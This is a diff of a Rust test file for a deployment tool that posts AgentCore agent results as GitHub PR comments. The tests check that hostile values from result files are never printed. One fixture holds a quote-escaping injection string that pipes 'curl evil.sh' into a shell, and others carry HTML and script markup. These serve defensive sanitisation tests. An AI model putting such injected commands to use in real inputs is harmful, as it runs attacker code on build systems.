@@ -9,10 +9,10 @@ use std::path::{Path, PathBuf};
 use xtask::agents::{self, Agent};
 use xtask::context::AwsArgs;
 use xtask::context::Ctx;
-use xtask::deploy::DeployOutcome;
 use xtask::github::event::{self, IssuesEvent};
 use xtask::github::metadata::{self, AgentVersion, FORMAT, Metadata};
 use xtask::github::{self as gh, EventArgs, render};
+use xtask::report::{DeployOutcome, PromoteAction, PromoteOutcome};
 use xtask::settings::{Settings, workspace_root};
 
 const COMMIT: &str = "3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d";
@@ -51,7 +51,7 @@ fn outcome(agent: &str, runtime: &str, version: &str, action: &str) -> DeployOut
         runtime_arn: Some(format!("arn:aws:bedrock-agentcore:us-east-1:123456789012:runtime/{runtime}-AbCdE12345")),
         version: Some(version.into()),
         status: "READY".into(),
-        action: action.into(),
+        action: action.parse().unwrap(),
         default_endpoint: Some("DEFAULT".into()),
         s3_key: Some(format!("{runtime}/v{version}/code.zip")),
         zip_sha256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".into(),
@@ -115,15 +115,16 @@ fn pr_comment_snapshot() {
 }
 
 /// Result files come from the matrix jobs: whatever they hold is data. An ARN that could close the
-/// quotes or the code block, or an unknown action, is not printed.
+/// quotes or the code block, or an action that is not a deploy's, is not printed (an unknown action
+/// does not even read: see `pr_comment_refuses_results_that_do_not_belong`).
 #[test]
 fn pr_comment_prints_only_well_formed_values() {
     let mut hostile = deployed("dad_joke_bot_pr_12", "3", "updated");
     hostile.runtime_arn = Some("arn:x' ; curl evil.sh | sh ; echo '\n```".into());
-    hostile.action = "<b>pwned</b>".into();
+    hostile.action = xtask::report::DeployAction::Planned;
     hostile.status = "READY`<script>".into();
     let markdown = render::pr_comment(12, COMMIT, "us-east-1", &[agent_result("dad_joke_bot", Ok(hostile))]);
-    assert!(!markdown.contains("curl") && !markdown.contains("pwned"), "{markdown}");
+    assert!(!markdown.contains("curl") && !markdown.contains("planned"), "{markdown}");
     assert!(markdown.contains("--agent-runtime-arn '<runtime ARN>'"), "{markdown}");
     assert!(markdown.contains("| `READY<script>` | - |"), "{markdown}");
     // A pipe or a line break cannot end the cell or the row.
@@ -153,13 +154,13 @@ fn deployment_issue_snapshot() {
 #[test]
 fn promotion_and_refusal_snapshots() {
     let verified = parse(&valid_body()).unwrap();
-    let outcomes = vec![xtask::promote::PromoteOutcome {
+    let outcomes = vec![PromoteOutcome {
         agent: "dad_joke_bot".into(),
         runtime_name: "dad_joke_bot_prod".into(),
         endpoint: "prod".into(),
         previous_version: Some("1".into()),
         live_version: "2".into(),
-        action: "promoted".into(),
+        action: PromoteAction::Promoted,
         runtime_id: "dad_joke_bot_prod-AbCdE12345".into(),
         endpoint_arn: None,
         record_key: None,
@@ -701,6 +702,16 @@ fn pr_comment_refuses_results_that_do_not_belong() {
             })],
             r#"["dad_joke_bot"]"#,
             "not an AgentCore status",
+        ),
+        (
+            "an unknown action",
+            vec![(
+                "d.json",
+                matrix_result("dad_joke_bot", 12, PR_HEAD, good())
+                    .replace(r#""action":"updated""#, r#""action":"<b>pwned</b>""#),
+            )],
+            r#"["dad_joke_bot"]"#,
+            "not a result file",
         ),
         (
             "a version that is not one",
